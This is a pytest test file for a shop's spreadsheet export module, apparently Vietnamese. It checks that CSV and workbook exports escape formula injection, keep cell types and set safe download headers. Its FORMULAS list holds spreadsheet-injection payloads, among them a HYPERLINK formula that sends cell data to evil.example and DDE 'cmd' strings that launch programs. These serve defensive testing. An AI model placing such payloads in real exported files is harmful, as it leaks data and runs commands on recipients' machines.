"""Tables that leave the house: nothing that somebody typed is run where they are opened."""

import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from shop.core.sheets import csv_of, download, workbook_of

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"xem")',
    "=cmd|' /C calc'!A0",
    "+84912345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_like_a_formula_stays_text_in_a_workbook(text):
    book = load_workbook(io.BytesIO(workbook_of(["Tên"], [[text]])))

    cell = book.active["A2"]

    assert cell.data_type == "s"
    assert cell.value.strip() == text.replace("\r", "\n").strip() or cell.value == text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_like_a_formula_gets_an_apostrophe_in_csv(text):
    second = csv_of(["Tên"], [[text]]).decode("utf-8-sig").split("\r\n", 1)[1]

    assert second.lstrip('"').startswith("'")


def test_a_heading_is_no_formula_either():
    book = load_workbook(io.BytesIO(workbook_of(["=1+1"], [])))

    assert book.active["A1"].data_type == "s"


def test_numbers_days_and_nothing_keep_their_kind():
    at = datetime(2026, 11, 28, 1, 30, tzinfo=UTC)
    book = load_workbook(io.BytesIO(workbook_of(list("abcd"), [[-5, Decimal(7), at, None]])))

    row = [cell.value for cell in book.active[2]]

    assert row == [-5, 7, datetime(2026, 11, 28, 8, 30), None]
    assert csv_of(["a"], [[-5]]).decode("utf-8-sig").endswith("-5\r\n")


def test_what_a_workbook_cannot_hold_is_left_out():
    book = load_workbook(io.BytesIO(workbook_of(["a"], [["ba\x00\x07 gạo " + "x" * 40_000]])))

    assert book.active["A2"].value.startswith("ba gạo")
    assert len(book.active["A2"].value) == 32_767


def test_vietnamese_opens_right_in_excel():
    assert csv_of(["Gạo"], []).startswith(b"\xef\xbb\xbf")


def test_a_download_is_kept_by_nobody_on_the_way():
    answer = download(b"x", "hang.xlsx")

    assert answer["Content-Disposition"] == 'attachment; filename="hang.xlsx"'
    assert "no-store" in answer["Cache-Control"]
